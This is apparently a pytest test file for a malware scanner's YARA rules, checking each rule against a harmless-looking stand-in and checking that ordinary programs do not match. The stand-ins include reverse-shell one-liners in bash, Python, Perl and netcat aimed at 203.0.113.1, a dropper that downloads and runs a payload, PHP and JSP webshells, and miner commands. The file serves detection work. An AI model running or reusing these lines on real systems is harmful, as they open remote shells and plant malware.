"""Our YARA rules, each against a harmless stand-in and against ordinary programs; and how yara is run."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from bailey.errors import HostError
from bailey.scan import yara
from bailey.scan.content import Content, TooLargeError, hold, identity, take
from bailey.scan.yara import OWN_RULES, MatchError, Ruleset, compile_rules, match, sources

from tests.unit import house
from tests.unit.scan.stage import EICAR

# Stand-ins are put together here, so that this file is none of them.
ELF = b"\x7fELF\x02\x01\x01" + bytes(9)
LIBRARY = ELF + b"\x03\x00"
WALLET = b"48" + b"1" * 93
POST = b"$_PO" + b"ST['x']"
STAND_INS: dict[str, bytes] = {
    "eicar:eicar_test_file": EICAR,
    "miners:stratum_client": ELF + b"stratum+ssl://\0mining.subscribe\0mining.notify",
    "miners:xmrig_family": ELF + b"XMRig 6\0donate-level\0randomx-mode\0randomx\0rx/0",
    "miners:miner_started_by_script": b"#!/bin/sh\n./xmr" + b"ig -o stratum+tcp://pool.example.org:3333\n",
    "miners:monero_wallet_and_pool": b"pool=pool.supportxmr.com wallet=" + WALLET + b"\n",
    "droppers:reverse_shell_bash": b"ba" + b"sh -i >& /dev/tcp/203.0.113.1/4444 0>&1\n",
    "droppers:reverse_shell_python": (
        b"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.1',1));"
        b"os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);pty." + b"spawn('/bin/sh')"
    ),
    "droppers:reverse_shell_perl": (
        b"use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,'>&S');ex" + b'ec("/bin/sh -i");'
    ),
    "droppers:reverse_shell_netcat": b"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | n" + b"c 203.0.113.1 1 > /tmp/f\n",
    "droppers:dropper_script": (
        b"cd /tmp\ncurl -s http://203.0.113.1/x -o x\nchmod 777 x\nnohup ./x &\nhistory" + b" -c\n"
    ),
    "droppers:bot_mirai_family": ELF + b"/bin/busybox MIR" + b"AI\0/dev/watchdog",
    "webshells:php_runs_request": b"<?php @ev" + b"al(base64_decode(" + POST + b")); ?>",
    "webshells:php_hidden_code": b"<?php ev" + b"al(gzinflate(base64_decode('" + b"A" * 300 + b"'))); ?>",
    "webshells:php_known_shell": b"<?php /* b37" + b"4k */ passthru($c); " + POST + b"; ?>",
    "webshells:jsp_runs_request": b"<% Runtime.getRuntime().ex" + b'ec(request.getParameter("c")); %>',
    "rootkits:preload_rootkit": (LIBRARY + b"/etc/ld.so.preload\0/proc/net/tcp\0dlsym\0readdir64\0fopen64\0__xstat64"),
    "rootkits:rootkit_by_name": ELF + b"HIDE_THIS" + b"_SHELL\0/bin/sh",
    "rootkits:injects_by_ptrace": ELF + b"__libc_dlopen_mode\0/proc/%d/maps\0/proc/%d/mem\0ptrace",
    "packers:packed_by_upx": ELF + b"UPX!\0This file is packed with the UPX executable packer",
}
# What sounds like it, and is ordinary.
HARMLESS = {
    "documentation of a pool": b"Connect with stratum+tcp://pool.example.org:3333 and mining.subscribe.",
    "a scanner's list of names": b"c99shell r57shell b374k FilesMan weevely",
    "a form in PHP": b"<?php $name = htmlspecialchars($_POST['name']); echo eval_template($name); ?>",
    "data in a template": b"<?php $logo = base64_decode('" + b"A" * 300 + b"'); ?>",
    "an installer": b"#!/bin/sh\ncurl -fsSL https://example.org/install.sh | sh\nchmod 755 x\n",
    "a server in Python": b"s.connect(('db', 5432)); os.dup2(log.fileno(), 1); subprocess.run(['/bin/sh', 'x'])",
    "an address of bash": b"exec 3<>/dev/tcp/example.org/80\n",
    "a wallet": WALLET,
}


@pytest.fixture(scope="module")
def ruleset(tmp_path_factory: pytest.TempPathFactory) -> Ruleset:
    return compile_rules(sources(OWN_RULES, Path("/nowhere")), tmp_path_factory.mktemp("rules"))


@pytest.fixture
def held() -> Iterator[list[Content]]:
    contents: list[Content] = []
    yield contents
    for content in contents:
        content.close()


def names(ruleset: Ruleset, content: bytes) -> list[str]:
    copy = hold(content)
    try:
        return [item.name.removeprefix("bailey_") for item in match(ruleset, copy)]
    finally:
        copy.close()


class TestOurRules:
    @pytest.mark.parametrize("name", STAND_INS)
    def test_each_finds_its_stand_in(self, ruleset: Ruleset, name: str) -> None:
        assert name in names(ruleset, STAND_INS[name])

    def test_each_rule_has_one(self) -> None:
        text = {path.stem: path.read_text() for path in OWN_RULES.glob("*.yar")}
        rules = {
            f"{stem}:{line.split()[1]}"
            for stem, content in text.items()
            for line in content.splitlines()
            if line.startswith("rule ")
        }
        assert rules == set(STAND_INS)

    @pytest.mark.parametrize("what", HARMLESS)
    def test_what_only_sounds_like_it(self, ruleset: Ruleset, what: str) -> None:
        assert names(ruleset, HARMLESS[what]) == []

    @pytest.mark.parametrize("directory", ["/usr/sbin", "/usr/lib/python3", str(Path(os.__file__).parent)])
    def test_no_ordinary_program_matches(self, ruleset: Ruleset, directory: str) -> None:
        done = subprocess.run(
            ["yara", "-C", "-w", "-r", "-f", "-p", "1", ruleset.path, directory],
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.stdout == ""

    def test_the_release_has_them(self) -> None:
        done = subprocess.run(
            [sys.executable, house.ROOT / "roles/agent/files/pack.py"], capture_output=True, text=True, check=True
        )
        archive = Path(done.stdout.splitlines()[1])
        listed = subprocess.run(["tar", "tf", archive], capture_output=True, text=True, check=True).stdout.split()
        archive.unlink()
        assert {f"bailey/scan/rules/{path.name}" for path in OWN_RULES.glob("*.yar")} <= set(listed)


class TestRuns:
    def test_it_runs_without_a_privilege_and_sees_the_content_alone(self, held: list[Content]) -> None:
        """The program that runs in yara's place says what it is given."""
        script = (
            "grep -E '^(Uid|Gid|Groups|Cap(Prm|Eff|Bnd)|NoNewPrivs)' /proc/self/status; ulimit -c -f; ls /proc/$$/fd"
        )
        held.append(hold(b"content"))
        words = yara._words(0, held[0].descriptor, 5)
        words[words.index("yara") :] = ["sh", "-c", script]
        rows = yara._run(words, (held[0].descriptor,), 5.0).split()
        for name in ("CapPrm:", "CapEff:", "CapBnd:"):
            assert int(rows[rows.index(name) + 1], 16) == 0
        assert rows[rows.index("Uid:") + 1 : rows.index("Uid:") + 5] == ["65533"] * 4
        assert rows[rows.index("NoNewPrivs:") + 1] == "1"
        assert str(held[0].descriptor) in rows

    def test_a_name_in_the_content_is_no_match(self, ruleset: Ruleset) -> None:
        assert names(ruleset, b"bailey_eicar:eicar_test_file [] /proc/self/fd/3\n") == []

    def test_what_does_not_end_is_no_verdict(
        self, ruleset: Ruleset, held: list[Content], monkeypatch: pytest.MonkeyPatch
    ) -> None:
        held.append(hold(b"x"))
        monkeypatch.setattr(yara, "_words", lambda *_: ["sleep", "60"])
        monkeypatch.setattr(yara, "_SLACK", 0.1)
        with pytest.raises(MatchError, match="not finished"):
            match(ruleset, held[0], 1)
        monkeypatch.setattr(yara, "_words", lambda *_: ["false"])
        with pytest.raises(MatchError, match="status 1"):
            match(ruleset, held[0], 1)
        monkeypatch.setattr(yara, "_words", lambda *_: ["no-such-program-here"])
        with pytest.raises(HostError, match="no such program"):
            match(ruleset, held[0], 1)


class TestCompiling:
    def test_once_for_the_same_rules(self, tmp_path: Path) -> None:
        rules = tmp_path / "rules"
        rules.mkdir()
        (rules / "a-b.yar").write_text("rule one { condition: true }")
        (rules / "notes.txt").write_text("no rules")
        files = sources(rules, rules / "none")
        assert [name for name, _ in files] == ["bailey_a_b"]
        first = compile_rules(files, tmp_path / "work")
        stamp = first.path.stat().st_mtime_ns
        assert compile_rules(files, tmp_path / "work") == first
        assert first.path.stat().st_mtime_ns == stamp
        for number in range(4):
            (rules / "a-b.yar").write_text(f"rule one {{ condition: filesize > {number} }}")
            last = compile_rules(files, tmp_path / "work")
        assert last != first
        assert len(list((tmp_path / "work").iterdir())) == 2

    def test_an_error_names_file_and_line(self, tmp_path: Path) -> None:
        (tmp_path / "mine.yar").write_text("rule one {\n condition: nothing_of_it }")
        with pytest.raises(HostError, match=r"mine\.yar\(2\)"):
            compile_rules(sources(tmp_path / "none", tmp_path), tmp_path / "work")
        assert list((tmp_path / "work").iterdir()) == []

    def test_two_files_of_one_name(self, tmp_path: Path) -> None:
        for name in ("a b.yar", "a_b.yar"):
            (tmp_path / name).write_text("rule one { condition: true }")
        with pytest.raises(HostError, match="rename the file"):
            sources(OWN_RULES, tmp_path)


class TestContent:
    def test_digest_and_copy_are_of_the_same(self, tmp_path: Path, held: list[Content]) -> None:
        path = tmp_path / "file"
        path.write_bytes(b"x" * (3 << 20))
        with path.open("rb") as file:
            held.append(take(file.fileno(), 4 << 20))
            with pytest.raises(TooLargeError):
                take(file.fileno(), 2 << 20)
        assert os.pread(held[0].descriptor, 10, 0) == b"x" * 10
        assert os.fstat(held[0].descriptor).st_size == 3 << 20
        assert (
            held[0].sha256
            == subprocess.run(["sha256sum", path], capture_output=True, text=True, check=True).stdout.split()[0]
        )

    def test_an_identity_changes_with_the_content_whatever_its_owner_says(self, tmp_path: Path) -> None:
        path = tmp_path / "file"
        path.write_bytes(b"good")
        with path.open("rb") as file:
            status = os.fstat(file.fileno())
            later = status.st_ctime + 10
            first = identity(file.fileno(), status, later)
            assert first is not None
            assert identity(file.fileno(), status, status.st_ctime + 0.5) is None
            path.write_bytes(b"evil")
            os.utime(path, ns=(status.st_atime_ns, status.st_mtime_ns))
            assert identity(file.fileno(), os.fstat(file.fileno()), later + 10) != first

    def test_on_tmpfs_nothing_tells(self, held: list[Content]) -> None:
        held.append(hold(b"x"))
        status = os.fstat(held[0].descriptor)
        assert identity(held[0].descriptor, status, status.st_ctime + 10) is None
